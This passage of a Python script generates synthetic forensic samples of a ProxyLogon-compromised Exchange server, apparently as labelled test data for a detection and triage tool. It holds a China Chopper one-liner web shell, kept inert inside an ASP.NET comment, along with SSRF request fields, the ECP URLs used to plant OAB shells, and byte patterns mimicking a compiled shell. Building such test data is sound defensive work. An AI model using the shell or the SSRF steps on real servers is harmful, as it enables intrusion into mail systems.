            "  <appSettings>\n"
            '    <add key="LogonPageName" value="logon.aspx" />\n'
            "  </appSettings>\n"
            "  <system.web>\n"
            '    <compilation debug="false" defaultLanguage="c#" targetFramework="4.8" />\n'
            '    <customErrors mode="On" />\n'
            "  </system.web>\n"
            "</configuration>\n")


def inert_wrap(body: str) -> str:
    """Wrap shell-like content so IIS can never run it: one server-side comment, whole file."""
    assert "--%>" not in body
    return (f"<%-- {INERT_BANNER}. The whole file is one ASP.NET server-side comment: IIS\n"
            "     discards it before compiling, so nothing below can run. No real malware here.\n"
            f"{body}\n--%>\n")


def oab_dump_shell(srv: Server, install_win: str) -> str:
    d = srv.dom
    body = "\n".join([
        "",
        f"Name                            : OAB (Default Web Site)",
        "PollInterval                    : 480",
        "OfflineAddressBooks             : \\Default Offline Address Book",
        "RequireSSL                      : False",
        "BasicAuthentication             : False",
        "WindowsAuthentication           : True",
        "OAuthAuthentication             : True",
        f"MetabasePath                    : IIS://{srv.fqdn}/W3SVC/1/ROOT/OAB",
        f"Path                            : {install_win}\\FrontEnd\\HttpProxy\\OAB",
        "ExtendedProtectionTokenChecking : None",
        "ExtendedProtectionFlags         : {}",
        "ExtendedProtectionSPNList       : {}",
        f"AdminDisplayVersion             : Version {srv.build[0]}.{srv.build[1]} (Build {srv.build[2]}.{srv.build[3]})",
        f"Server                          : {srv.short}",
        f"InternalUrl                     : https://{srv.fqdn}/OAB",
        "InternalAuthenticationMethods   : {WindowsIntegrated}",
        f"ExternalUrl                     : {CHOPPER_URL}",
        "ExternalAuthenticationMethods   : {WindowsIntegrated}",
        "AdminDisplayName                :",
        "ExchangeVersion                 : 0.10 (14.0.100.0)",
        f"DistinguishedName               : CN=OAB (Default Web Site),CN=HTTP,CN=Protocols,CN={srv.short},CN=Servers,"
        "CN=Exchange Administrative Group (FYDIBOHF23SPDLT),CN=Administrative Groups,CN=Corp,"
        f"CN=Microsoft Exchange,CN=Services,CN=Configuration,DC={d.split('.')[0]},DC={d.split('.')[1]}",
        f"Identity                        : {srv.short}\\OAB (Default Web Site)",
        f"Guid                            : {srv.oab_vdir_guid}",
        "ObjectCategory                  : corp.local/Configuration/Schema/ms-Exch-OAB-Virtual-Directory",
        "ObjectClass                     : {top, msExchVirtualDirectory, msExchOABVirtualDirectory}",
        "WhenChanged                     : 3/3/2021 6:49:53 AM",
        "WhenCreated                     : 11/12/2020 2:14:40 PM",
        "OrganizationId                  :",
        "Id                              : EXCH01\\OAB (Default Web Site)",
        "OriginatingServer               : DC01.corp.local",
        "IsValid                         : True",
        "ObjectState                     : Unchanged",
        "",
    ])
    return inert_wrap(body)


def chopper_one_liner(key: str) -> str:
    return inert_wrap('<%@ Page Language="Jscript"%><%eval(Request.Item["' + key + '"],"unsafe");%>')


def compiled_page_placeholder(virtual_path: str, assembly: str) -> bytes:
    """Bytes shaped like the strings of a compiled China Chopper page (App_Web_*.dll): an MZ header,
    the ASCII metadata names ASP.NET emits and the page's UTF-16LE virtual path. Not a program."""
    data = bytearray(b"MZ\x90\x00" + bytes(60) + b"This program cannot be run in DOS mode.\r\n" + INERT_BANNER.encode() + b"\r\n")
    data += b"PE\x00\x00" + bytes(64)
    for name in (assembly, "ASP", "aspnet_client_discover_aspx", "Page_Load", "get_Request", "get_Item",
                 "Microsoft.JScript", "JScriptEvaluate", "System.Web.UI.Page"):
        data += name.encode() + b"\x00"
    data += virtual_path.encode("utf-16-le") + b"\x00\x00" + "unsafe".encode("utf-16-le") + b"\x00\x00"
    return bytes(data + bytes(8192 - len(data)))


def regf_placeholder(name: str, stamp: dt.datetime, size: int = 8192) -> bytes:
    """A registry *placeholder*: a plausible 4 KiB base block, then zeros. Not a real hive."""
    ft = int((stamp - dt.datetime(1601, 1, 1, tzinfo=UTC)).total_seconds() * 10_000_000)
    base = bytearray(4096)
    struct.pack_into("<4sIIQIIIII", base, 0, b"regf", 1842, 1842, ft, 1, 5, 0, 1, 0x20)
    struct.pack_into("<II", base, 0x28, 0x1000, 1)  # hive bins data size, clustering factor
    fname = f"\\SystemRoot\\System32\\Config\\{name}".encode("utf-16-le")[:64]
    base[0x30:0x30 + len(fname)] = fname
    chk = 0
    for i in range(0, 0x1FC, 4):
        chk ^= struct.unpack_from("<I", base, i)[0]
    struct.pack_into("<I", base, 0x1FC, chk)
    comment = (f"EXTRIAGE SYNTHETIC SAMPLE - registry hive placeholder ({name}); "
               "not a real hive, real ones come later").encode()
    base[0x200:0x200 + len(comment)] = comment
    return bytes(base) + b"\x00" * (size - len(base))


def vendor_zip(entries: dict[str, str]) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", compression=zipfile.ZIP_DEFLATED) as z:
        for name, text in entries.items():
            info = zipfile.ZipInfo(name, date_time=(2020, 11, 4, 9, 12, 30))
            info.compress_type = zipfile.ZIP_DEFLATED
            info.external_attr = 0o644 << 16
            z.writestr(info, text)
    return buf.getvalue()


def application_host_config(srv: Server, exch_prefix: str, global_modules: list[tuple[str, str]] | None = None) -> str:
    """exch_prefix: how physicalPath spells the install dir, with trailing backslash; global_modules:
    (name, image) of the native modules in <globalModules>, also enabled in <modules> (None: no section)."""
    fe = [("/owa", "MSExchangeOWAAppPool", "owa"), ("/ecp", "MSExchangeECPAppPool", "ecp"),
          ("/EWS", "MSExchangeServicesAppPool", "EWS"),
          ("/Autodiscover", "MSExchangeAutodiscoverAppPool", "autodiscover"),
          ("/Microsoft-Server-ActiveSync", "MSExchangeSyncAppPool", "sync"),
          ("/OAB", "MSExchangeOABAppPool", "OAB"),
          ("/PowerShell", "MSExchangePowerShellFrontEndAppPool", "PowerShell"),
          ("/mapi", "MSExchangeMapiFrontEndAppPool", "mapi")]
    be = [("/owa", "MSExchangeOWAAppPool", "Owa"), ("/ecp", "MSExchangeECPAppPool", "ecp"),
          ("/EWS", "MSExchangeServicesAppPool", "exchweb\\EWS"),
          ("/Autodiscover", "MSExchangeAutodiscoverAppPool", "Autodiscover"),
          ("/Microsoft-Server-ActiveSync", "MSExchangeSyncAppPool", "sync"),
          ("/OAB", "MSExchangeOABAppPool", "OAB"),
          ("/PowerShell", "MSExchangePowerShellAppPool", "PowerShell-Proxy"),
          ("/mapi/emsmdb", "MSExchangeMapiMailboxAppPool", "mapi\\emsmdb")]
    pools = sorted({p for _, p, _ in fe + be} | {"DefaultAppPool", "MSExchangeRpcProxyAppPool",
                                                 "MSExchangeRpcProxyFrontEndAppPool"})
    out = ['<?xml version="1.0" encoding="UTF-8"?>',
           f"<!-- EXTRIAGE SYNTHETIC SAMPLE - trimmed applicationHost.config of {srv.short} -->",
           "<configuration>",
           "    <system.applicationHost>",
           "        <applicationPools>"]
    for p in pools:
        out.append(f'            <add name="{p}" managedRuntimeVersion="v4.0" />')
    out += ["            <applicationPoolDefaults managedRuntimeVersion=\"v4.0\">",
            "                <processModel identityType=\"ApplicationPoolIdentity\" />",
            "            </applicationPoolDefaults>",
            "        </applicationPools>",
            "        <log>",
            '            <centralBinaryLogFile enabled="true" directory="%SystemDrive%\\inetpub\\logs\\LogFiles" />',
            '            <centralW3CLogFile enabled="true" directory="%SystemDrive%\\inetpub\\logs\\LogFiles" />',
            "        </log>",
            "        <sites>",
            '            <site name="Default Web Site" id="1" serverAutoStart="true">',
            '                <application path="/" applicationPool="DefaultAppPool">',
            '                    <virtualDirectory path="/" physicalPath="%SystemDrive%\\inetpub\\wwwroot" />',
            "                </application>"]
    for path, pool, d in fe:
        out += [f'                <application path="{path}" applicationPool="{pool}">',
                f'                    <virtualDirectory path="/" physicalPath="{exch_prefix}FrontEnd\\HttpProxy\\{d}" />',
                "                </application>"]
    out += ['                <application path="/Rpc" applicationPool="MSExchangeRpcProxyFrontEndAppPool">',
            '                    <virtualDirectory path="/" physicalPath="%windir%\\System32\\RpcProxy" />',
            "                </application>",
            "                <bindings>",
            '                    <binding protocol="http" bindingInformation="*:80:" />',
            '                    <binding protocol="https" bindingInformation="*:443:" />',
            "                </bindings>",
            '                <logFile logFormat="W3C" directory="%SystemDrive%\\inetpub\\logs\\LogFiles" enabled="true" />',
            "            </site>",
            '            <site name="Exchange Back End" id="2" serverAutoStart="true">',
            '                <application path="/" applicationPool="DefaultAppPool">',
            f'                    <virtualDirectory path="/" physicalPath="{exch_prefix}ClientAccess" />',
            "                </application>"]
    for path, pool, d in be:
        out += [f'                <application path="{path}" applicationPool="{pool}">',
                f'                    <virtualDirectory path="/" physicalPath="{exch_prefix}ClientAccess\\{d}" />',
                "                </application>"]
    out += ['                <application path="/Rpc" applicationPool="MSExchangeRpcProxyAppPool">',
            '                    <virtualDirectory path="/" physicalPath="%windir%\\System32\\RpcProxy" />',
            "                </application>",
            "                <bindings>",
            '                    <binding protocol="http" bindingInformation="*:81:" />',
            '                    <binding protocol="https" bindingInformation="*:444:" />',
            "                </bindings>",
            '                <logFile logFormat="W3C" directory="%SystemDrive%\\inetpub\\logs\\LogFiles" enabled="true" />',
            "            </site>",
            "            <siteDefaults>",
            '                <logFile logFormat="W3C" directory="%SystemDrive%\\inetpub\\logs\\LogFiles" />',
            '                <traceFailedRequestsLogging directory="%SystemDrive%\\inetpub\\logs\\FailedReqLogFiles" />',
            "            </siteDefaults>",
            '            <applicationDefaults applicationPool="DefaultAppPool" />',
            '            <virtualDirectoryDefaults allowSubDirConfig="true" />',
            "        </sites>",
            "    </system.applicationHost>"]
    if global_modules is not None:
        out += ["    <system.webServer>", "        <globalModules>"]
        for name, image in global_modules:
            pre = ' preCondition="integratedMode,runtimeVersionv4.0,bitness64"' if "webengine4" in image else ""
            out.append(f'            <add name="{name}" image="{image}"{pre} />')
        out += ["        </globalModules>", "        <modules>"]
        for name, _ in global_modules:
            out.append(f'            <add name="{name}" lockItem="true" />')
        out += ["        </modules>", "    </system.webServer>"]
    out += ["</configuration>", ""]
    return "\n".join(out)


def web_folders(tree: Tree, srv: Server, version_dir: str, fe_ews: str, ecp_auth_name: str) -> None:
    fe = f"{srv.exch_rel}/FrontEnd/HttpProxy"
    ca = f"{srv.exch_rel}/ClientAccess"
    auth = f"{fe}/owa/auth"
    pages = {
        "logon.aspx": ("Outlook", "Microsoft.Exchange.HttpProxy.Logon"),
        "errorFE.aspx": ("Something went wrong", "Microsoft.Exchange.HttpProxy.ErrorFE"),
        "logoff.aspx": ("Outlook", "Microsoft.Exchange.HttpProxy.Logoff"),
        "expiredpassword.aspx": ("Change password", "Microsoft.Exchange.HttpProxy.ExpiredPassword"),
        "frowny.aspx": ("Something went wrong", "Microsoft.Exchange.HttpProxy.Frowny"),
        "signout.aspx": ("Outlook", "Microsoft.Exchange.HttpProxy.Signout"),
        "OutlookCN.aspx": ("Outlook", "Microsoft.Exchange.HttpProxy.OutlookCN"),
        "RedirSuiteServiceProxy.aspx": ("Outlook", "Microsoft.Exchange.HttpProxy.RedirSuiteServiceProxy"),
    }
    for name, (title, inh) in pages.items():
        tree.write_text(f"{auth}/{name}", benign_aspx(title, inh))
    tree.write_text(f"{auth}/GetIdToken.htm",
                    "<!DOCTYPE html>\n<!-- EXTRIAGE SYNTHETIC SAMPLE - benign placeholder -->\n"
                    "<html><head><title>GetIdToken</title></head><body></body></html>\n")
    tree.write_text(f"{auth}/Current/themes/resources/logon.css",
                    "/* EXTRIAGE SYNTHETIC SAMPLE - benign placeholder */\n"
                    "body { font-family: \"Segoe UI\", Tahoma, sans-serif; background: #fff; }\n"
                    ".signInInputText { width: 100%; }\n")
    tree.write_text(f"{auth}/{version_dir}/scripts/premium/flogon.js",
                    "/* EXTRIAGE SYNTHETIC SAMPLE - benign placeholder */\n"
                    "function clkLgn() { var f = document.forms[0]; if (f) { f.submit(); } }\n"
                    "function setCookie(n, v) { document.cookie = n + '=' + v + '; path=/'; }\n")
    tree.write_text(f"{auth}/{version_dir}/themes/resources/favicon.ico.txt",
                    "EXTRIAGE SYNTHETIC SAMPLE - stands in for a theme image\n")
    tree.write_text(f"{fe}/owa/web.config", benign_config("FrontEnd owa web.config"))
    tree.write_text(f"{fe}/ecp/auth/{ecp_auth_name}",
                    benign_aspx("Session timed out", "Microsoft.Exchange.HttpProxy.TimeoutLogoff"))
    tree.write_text(f"{fe}/ecp/web.config", benign_config("FrontEnd ecp web.config"))
    tree.write_text(f"{fe}/ecp/default.aspx", benign_aspx("Exchange admin center",
                                                           "Microsoft.Exchange.HttpProxy.EcpDefault"))
    tree.write_text(f"{fe}/{fe_ews}/web.config", benign_config("FrontEnd EWS web.config"))
    tree.write_text(f"{fe}/{fe_ews}/Exchange.asmx",
                    '<%@ WebService Language="C#" Class="Microsoft.Exchange.HttpProxy.EwsPlaceholder" %>\n'
                    "<%-- EXTRIAGE SYNTHETIC SAMPLE - benign placeholder --%>\n")
    tree.write_text(f"{fe}/OAB/web.config", benign_config("FrontEnd OAB web.config"))
    tree.write_text(f"{ca}/Owa/web.config", benign_config("ClientAccess Owa web.config"))
    tree.write_text(f"{ca}/Owa/default.aspx", benign_aspx("Outlook", "Microsoft.Exchange.Clients.Owa.Default"))
    tree.write_text(f"{ca}/ecp/web.config", benign_config("ClientAccess ecp web.config"))
    tree.write_text(f"{ca}/ecp/default.aspx", benign_aspx("Exchange admin center",
                                                           "Microsoft.Exchange.Management.ControlPanel.Default"))
    tree.write_text(f"{ca}/OAB/web.config", benign_config("ClientAccess OAB web.config"))
    tree.write_text(f"{ca}/OAB/{srv.oab_guid}/oab.xml",
                    '<?xml version="1.0" encoding="utf-8"?>\n'
                    "<!-- EXTRIAGE SYNTHETIC SAMPLE - benign placeholder -->\n"
                    '<OAB><OAL id="' + srv.oab_guid + '" dn="/" name="\\Default Global Address List">'
                    '<Full seq="412" ver="32" size="18342" uncompressedsize="61440" SHA="0">'
                    f"{srv.oab_guid}-data-412.lzx</Full></OAL></OAB>\n")
    tree.write_text(f"{ca}/Autodiscover/web.config", benign_config("ClientAccess Autodiscover web.config"))
    tree.write_text(f"{ca}/Autodiscover/Autodiscover.svc",
                    '<%@ ServiceHost Service="Microsoft.Exchange.Autodiscover.PlaceholderService" %>\n')


def wwwroot(tree: Tree) -> None:
    tree.write_text("inetpub/wwwroot/iisstart.htm",
                    "<!DOCTYPE html>\n<!-- EXTRIAGE SYNTHETIC SAMPLE - benign IIS start page placeholder -->\n"
                    "<html><head><title>IIS Windows Server</title></head>\n"
                    "<body><img src=\"iisstart.png\" alt=\"IIS\" width=\"960\" height=\"600\"></body></html>\n")
    tree.write_text("inetpub/wwwroot/web.config",
                    '<?xml version="1.0" encoding="UTF-8"?>\n'
                    "<!-- EXTRIAGE SYNTHETIC SAMPLE - benign placeholder -->\n"
                    "<configuration>\n    <system.webServer>\n"
                    '        <httpRedirect enabled="false" />\n'
                    "        <defaultDocument>\n            <files>\n"
                    '                <add value="iisstart.htm" />\n'
                    "            </files>\n        </defaultDocument>\n"
                    "    </system.webServer>\n</configuration>\n")
    tree.write_bytes("inetpub/wwwroot/aspnet_client/system_web/4_0_30319/.gitkeep", b"")


# --------------------------------------------------------------------------------------
# A host: its server profile, the activity the scenarios add, and the logs written from it
# --------------------------------------------------------------------------------------

T_CONFIRMED, T_LIKELY, T_ATTEMPT, T_INFO, T_NONE = "confirmed", "likely", "attempt-only", "informational", "none (must not fire)"


def d(y, mo, da, h=0, mi=0, s=0, ms=0) -> dt.datetime:
    return dt.datetime(y, mo, da, h, mi, s, ms * 1000, tzinfo=UTC)


@dataclass
class EcpRow:
    """One ECP Server log row. `session` names a session the host allocates (None: a one-off)."""
    t: dt.datetime
    ms: int
    session: str | None
    cmd: str
    url: str
    ex: str = ""
    trace: Trace | None = None


@dataclass
class LogLayout:
    """Where a host's logs go and when each was opened (its `#Date:` header)."""
    hp_hours: list[dt.datetime]          # HttpProxy hours still on disk (older ones aged out)
    iis_days: list[dt.date]              # W3SVC1 days
    be_days: list[dt.date]               # W3SVC2 days
    lower_ext: set[tuple[str, str]]      # (protocol, YYYYMMDDHH) HttpProxy files named .log
    ecp_server: tuple[str, dt.datetime]
    ecp_activity: tuple[str, dt.datetime]
    oab: tuple[str, dt.datetime]
    oab_pid: int
    oab_name: str
    rps: tuple[str, dt.datetime]
    rps_pid: int
    # The guids of a one-off ECP row's session are drawn in this order (usid before actid on
    # EXCH01, after it on EXCH19), as the first version of this script did: the bytes stay put.
    ecp_one_off_usid_first: bool
    iis_logdir: str = "inetpub/logs/LogFiles"
    httperr: str = "Windows/System32/LogFiles/HTTPERR/httperr1.log"


class Host:
    """What the scenario functions add to: web requests and rows of the other logs. Random values
    of log rows are drawn when the logs are written, in file order, so a scenario's place in the
    table changes only the order of its web requests."""

    def __init__(self, tree: Tree, srv: Server, layout: LogLayout) -> None:
        self.tree, self.srv, self.layout = tree, srv, layout
        self.reqs: list[Req] = []
        self.ecp: list[EcpRow] = []
        self.ecp_sessions: list[str] = []      # named ECP sessions, allocated in this order
        self.activity: list[tuple[dt.datetime, str, str, Trace | None]] = []  # (time, S:PSA, S:URL, trace)
        self.oab: list[tuple[dt.datetime, str, str, str, Trace | None]] = []  # (time, level, component, message, trace)
        self.rps: list[tuple] = []              # rps_row arguments after srv: (t, user, sid, is_admin, app, cmdlet, params)
        self.httperr: list[str] = []            # whole HTTPERR lines
        self.iis_restart: dt.datetime | None = None

    def ecp_session(self, name: str) -> str:
        if name not in self.ecp_sessions:
            self.ecp_sessions.append(name)
        return name

    def write_logs(self) -> None:
        """Writes every log of the host from what the scenarios added, in a fixed order."""
        srv, tree, lay = self.srv, self.tree, self.layout
        rng = srv.rng
        reqs = finish(srv, self.reqs)
        write_web_logs(tree, srv, reqs, lay.hp_hours, lay.iis_days, lay.be_days, lay.lower_ext,
                       lay.iis_logdir, restart_at=self.iis_restart)

        rel, opened = lay.ecp_server
        ecp = LogFile()
        for h in exchange_header(ECP_LOG_VERSION, "ECP Server Log", iso_ms(opened), ECP_FIELDS):
            ecp.add(h)
        sessions = {}
        for name in self.ecp_sessions:
            sessions[name] = (srv.guid(), srv.guid())  # (S:SID, S:USID)
        rows = sorted(self.ecp, key=lambda r: r.t)
        one_off = {id(r): srv.guid() for r in rows if r.session is None}
        for r in rows:
            if r.session is not None:
                sid, usid = sessions[r.session]
                actid = srv.guid()
            elif lay.ecp_one_off_usid_first:
                sid, usid = one_off[id(r)], srv.guid()
                actid = srv.guid()
            else:
                sid, actid = one_off[id(r)], srv.guid()
                usid = srv.guid()
            data = ecp_server_data(srv, r.ms, sid, r.cmd, r.url, actid, usid, r.ex)
            ecp.add(csv_row([iso_ms(r.t), srv.short, "ECP.Request", data]), r.trace)
        tree.write_log(rel, ecp, bom=True)

        rel, opened = lay.ecp_activity
        act = LogFile()
        for h in exchange_header(ECP_LOG_VERSION, "ECP Activity Context Log", iso_ms(opened), ECP_FIELDS):
            act.add(h)
        for t, psa, url, tr in sorted(self.activity, key=lambda r: r[0]):
            act.add(csv_row([iso_ms(t), srv.short, "Request",
                             ecp_activity_data(srv, psa, url, srv.guid(), f"Dbl:WLM.TS={rng.randint(0, 40)}")]), tr)
        tree.write_log(rel, act, bom=True)

        rel, opened = lay.oab
        srv.build = srv.build_at(opened)
        oab = LogFile()
        for h in exchange_header(srv.ver_header, "OABGenerator Log", iso_ms(opened), OAB_FIELDS):
            oab.add(h)
        for t, lvl, comp, msg, tr in sorted(self.oab, key=lambda r: r[0]):
            oab.add(csv_row([iso_ms(t), srv.short, lay.oab_pid, rng.randint(8, 60), lvl, comp, lay.oab_name, msg]), tr)
        tree.write_log(rel, oab, bom=True)

        rel, opened = lay.rps
        srv.build = srv.build_at(opened)
        rps = LogFile()
        for h in exchange_header(srv.ver_header, "Rps Cmdlet Logs", iso_ms(opened), RPS_CMDLET_FIELDS):
            rps.add(h)
        for args in sorted(self.rps, key=lambda r: r[0]):
            rps.add(csv_row(rps_row(srv, *args, pid=lay.rps_pid)))
        tree.write_log(rel, rps, bom=True)

        lines = sorted(self.httperr)  # every line starts with its date and time
        he = LogFile()
        for h in httperr_header(dt.datetime.strptime(lines[0][:19], "%Y-%m-%d %H:%M:%S")):
            he.add(h)
        for line in lines:
            he.add(line)
        tree.write_log(lay.httperr, he)


def build_host(root: pathlib.Path, srv: Server, layout: LogLayout, scenarios, disk, notes) -> Tree:
    """Runs the activity scenarios (in table order), writes the logs, then the files left on
    the volume, then the trace notes about files this script does not write (event logs)."""
    host = Host(Tree(root), srv, layout)
    for scenario in scenarios:
        scenario(host)
    host.write_logs()
    for step in disk + notes:
        step(host)
    return host.tree


# --------------------------------------------------------------------------------------
# Image 1: EXCH01, Exchange 2016 CU19, compromised (story: Samples/README.md)
# --------------------------------------------------------------------------------------

CHROME88 = ("Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
            "Chrome/88.0.4324.190 Safari/537.36")
OUTLOOK16 = "Microsoft Office/16.0 (Windows NT 10.0; Microsoft Outlook 16.0.13628; Pro)"
SCANNER_IP = "198.51.100.23"
ATTACKER_IP = "203.0.113.45"
PROBER_IP = "192.0.2.77"
PY_UA = "python-requests/2.25.1"
ATTACKER_CANARY = "vCzL0rRnZ0y3x8mZq6JkP9tYwF2aB7cD1eG4hI5jK6lM8nO0pQ2rS4tU6vW8xY0zAbCdEfGhIjKlMn."
ADMIN_CANARY_16 = "Qm3vL8sT1xWz0pR6yK4nB2cF9hD5gJ7aE3uI0oP8qS1tV6wX4zY2bN9mC7lA5kH3jG."
OAB_SHELL = "qGtWmKzP.aspx"   # the OAB-config dump written by ResetOABVirtualDirectory (CVE-2021-26858)
CHOPPER2 = "discover.aspx"    # planted through the OAB shell
OWA_SHELL = "/owa/auth/RedirSuiteServerProxy.aspx"
URL_GET = f"/ecp/DDI/DDIService.svc/GetObject?msExchEcpCanary={ATTACKER_CANARY}&schema=OABVirtualDirectory"
URL_SET = f"/ecp/DDI/DDIService.svc/SetObject?msExchEcpCanary={ATTACKER_CANARY}&schema=OABVirtualDirectory"
URL_RESET = f"/ecp/DDI/DDIService.svc/SetObject?msExchEcpCanary={ATTACKER_CANARY}&schema=ResetOABVirtualDirectory"


def exch01() -> Server:
    srv = Server(
        short="EXCH01", fqdn="exch01.corp.local", ip="10.0.0.10", ext_host="mail.corp.example",
        dom="corp.local", netbios="CORP", domain_sid="S-1-5-21-1004336348-1177238915-682003330",
        build=(15, 1, 2176, 2),
        exch_rel="Program Files/Microsoft/Exchange Server/V15",
        exch_win=r"C:\Program Files\Microsoft\Exchange Server\V15",
        folders={"Autodiscover": "Autodiscover", "Eas": "Eas", "Ecp": "Ecp", "Ews": "Ews",
                 "Mapi": "Mapi", "Oab": "Oab", "Owa": "Owa", "PowerShell": "PowerShell"},
        health="HealthMailboxd6a1f0c2e2b94c1b8a7f3e5d4c2b1a09",
        health_guid="0d5b3a8e-2f6c-4e1a-9b7d-5c3e1f2a4b6d",
        oab_guid="3f2a9c1e-7b4d-4e8a-a1c5-9d0e6f2b8c47",
        oab_vdir_guid="6c1f5e2a-9b3d-4f7e-8a21-3d5c9e0b7f14",
        users={}, rng=random.Random(20210303), os_build="5.1.14393.4169")
    srv.users = {
        "jdoe": User("jdoe", 1108, "10.0.1.25", CHROME88, OUTLOOK16, "8b2c4e6a-1d3f-4a5b-9c7e-0f1a2b3c4d5e"),
        "msmith": User("msmith", 1112, "10.0.1.31",
                       "Mozilla/5.0 (Macintosh; Intel Mac OS X 11_2_1) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/14.0.3 Safari/605.1.15",
                       "MacOutlook/16.46.21021202 (Intelx64 Mac OS X 11.2.1 (Build 20D74))",
                       "2e4f6a8c-0b1d-4e3f-8a5c-7e9b1d3f5a7c"),
        "akhan": User("akhan", 1125, "10.0.2.14",
                      "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/88.0.4324.190 Safari/537.36 Edg/88.0.705.81",
                      OUTLOOK16, "5a7c9e1b-3d5f-4b7a-9c1e-3f5a7b9d1e3f"),
        "lchen": User("lchen", 1131, "100.64.12.9", "", "Apple-iPhone12C1/1802.67",
                      "9c1e3a5b-7d9f-4c1e-8b3d-5f7a9c1e3b5d"),
        "exadmin": User("exadmin", 1105, "10.0.0.50", CHROME88, OUTLOOK16, "1f3b5d7a-9c2e-4f6a-8d0b-2c4e6a8b0d1f"),
    }
    return srv


def exch01_layout(srv: Server) -> LogLayout:
    logging = f"{srv.exch_rel}/Logging"
    return LogLayout(
        hp_hours=[d(2021, 3, 3, h) for h in range(5, 10)],
        iis_days=[dt.date(2021, 3, 2), dt.date(2021, 3, 3)], be_days=[dt.date(2021, 3, 3)],
        lower_ext={("Mapi", "2021030307")},
        ecp_server=(f"{logging}/ECP/Server/ECPServer20210303-1.LOG", d(2021, 3, 3, 0, 1, 18, 223)),
        ecp_activity=(f"{logging}/ECP/Activity/ECPActivity_5512_20210303-1.LOG", d(2021, 3, 3, 0, 1, 18, 198)),
        oab=(f"{logging}/OABGeneratorLog/OABGenerator_20210303-1.LOG", d(2021, 3, 3, 0, 12, 3, 47)),
        oab_pid=6124, oab_name="\\Default Offline Address Book",
        rps=(f"{logging}/CmdletInfra/Powershell-Proxy/Cmdlet/Rps_Cmdlet_2021030308-1.LOG", d(2021, 3, 3, 8, 3, 14, 607)),
        rps_pid=7412, ecp_one_off_usid_first=True)


def ex16_everyday_traffic(h: Host) -> None:
    """Health probes and users, 2021-03-02 00:00 .. 2021-03-03 09:50 (image taken ~09:50 UTC)."""
    srv = h.srv
    h.reqs += ordinary_traffic(srv, d(2021, 3, 2, 0), d(2021, 3, 3, 9, 50))
    inbox_rules = ("/ecp/RulesEditor/InboxRules.svc/GetList?msExchEcpCanary="
                   "Hx2mR0pQ7vT1wY9kL4nC8bF3dG6jA5sE0uI2oZ1xV7cB9nM4lK3jH6gF5dS8aP0qW.")
    h.ecp.append(EcpRow(d(2021, 3, 3, 0, 1, 18, 301), 211, None, "Get-InboxRule", inbox_rules))
    h.activity.append((d(2021, 3, 3, 0, 1, 18, 305), f"{srv.health}@{srv.dom}", f"https://localhost:444{inbox_rules}", None))
    hmb = f"{srv.netbios}\\{srv.health}"
    for t in (d(2021, 3, 3, 8, 3, 14, 607), d(2021, 3, 3, 8, 58, 36, 842)):
        h.rps.append((t, hmb, srv.sid(1151), False, "ActiveMonitor", "Get-Mailbox", '-ResultSize "1"'))
    h.httperr += [
        "2021-03-02 23:14:02 10.0.1.25 51822 10.0.0.10 443 - - - - - - Timer_ConnectionIdle -",
        "2021-03-03 07:31:44 10.0.2.14 50544 10.0.0.10 443 HTTP/1.1 POST /mapi/emsmdb/?MailboxId=5a7c9e1b-3d5f-4b7a-9c1e-3f5a7b9d1e3f@corp.local - - 1 Connection_Abandoned_By_ReqQueue MSExchangeMapiFrontEndAppPool",
    ]


def ex16_admin_work(h: Host) -> None:
    """CORP\\exadmin, 08:36-08:44: ECP mailbox list and Remote PowerShell (benign noise)."""
    srv = h.srv
    adm = srv.users["exadmin"]
    h.reqs += admin_ecp(srv, adm, d(2021, 3, 3, 8, 36, 12, 455), ADMIN_CANARY_16)
    h.reqs += [admin_ps(srv, adm, d(2021, 3, 3, 8, 41, 2, 118), "Get-ExchangeServer:Command"),
               admin_ps(srv, adm, d(2021, 3, 3, 8, 41, 9, 730), "Get-Mailbox:Command"),
               admin_ps(srv, adm, d(2021, 3, 3, 8, 43, 27, 301), "Get-OabVirtualDirectory:Command")]
    sess = h.ecp_session("admin")
    getlist = f"/ecp/DDI/DDIService.svc/GetList?schema=MailboxService&msExchEcpCanary={ADMIN_CANARY_16}"
    h.ecp += [EcpRow(d(2021, 3, 3, 8, 36, 15, 531), 604, sess, "Get-Mailbox.ResultSize='500'.RecipientTypeDetails='UserMailbox'", getlist),
              EcpRow(d(2021, 3, 3, 8, 36, 15, 702), 41, sess, "Pipeline.1|Get-MailboxRegionalConfiguration", getlist)]
    h.activity.append((d(2021, 3, 3, 8, 36, 15, 720), f"exadmin@{srv.dom}", f"https://{srv.fqdn}:444{getlist}", None))
    ex = f"{srv.netbios}\\exadmin"
    h.rps += [
        (d(2021, 3, 3, 8, 41, 2, 101), ex, srv.sid(1105), True, "ManagementShell", "Get-ExchangeServer", ""),
        (d(2021, 3, 3, 8, 41, 9, 712), ex, srv.sid(1105), True, "ManagementShell", "Get-Mailbox", '-ResultSize "Unlimited" -RecipientTypeDetails "UserMailbox"'),
        (d(2021, 3, 3, 8, 43, 27, 280), ex, srv.sid(1105), True, "ManagementShell", "Get-OabVirtualDirectory", f'-Server "{srv.short}" -ADPropertiesOnly "True"'),
        (d(2021, 3, 3, 8, 44, 51, 19), ex, srv.sid(1105), True, "ManagementShell", "Get-MailboxDatabaseCopyStatus", '-Server "EXCH01"'),
    ]


def ex16_scanner_autodiscover_ssrf(h: Host) -> None:
    """Scanner 198.51.100.23, 05:13-05:14: two autodiscover-only SSRF requests on /ecp/kq.js."""
    srv = h.srv
    t_sc = Trace("C03", "CVE-2021-26855 SSRF from scanner 198.51.100.23, target autodiscover only, nothing later",
                 "CVE-2021-26855 / T1190", T_ATTEMPT)
    for t in (d(2021, 3, 3, 5, 14, 22, 318), d(2021, 3, 3, 5, 14, 23, 105)):
        h.reqs.append(Req(end=t, proto="Ecp", method="POST", stem="/ecp/kq.js", host=srv.ip,
                          ua=CHROME88, cip=SCANNER_IP,
                          anchor=f"ServerInfo~a]@{srv.fqdn}:444/autodiscover/autodiscover.xml?#",
                          routing_type="", routing_hint="X-BEResource-Cookie",
                          target_server=f"a]@{srv.fqdn}:444/autodiscover/autodiscover.xml?#",
                          be_stem="/autodiscover/autodiscover.xml", be_query="",
                          be_user="CORP\\EXCH01$", latency=srv.rng.randint(60, 140),
                          proxy_trace=t_sc,
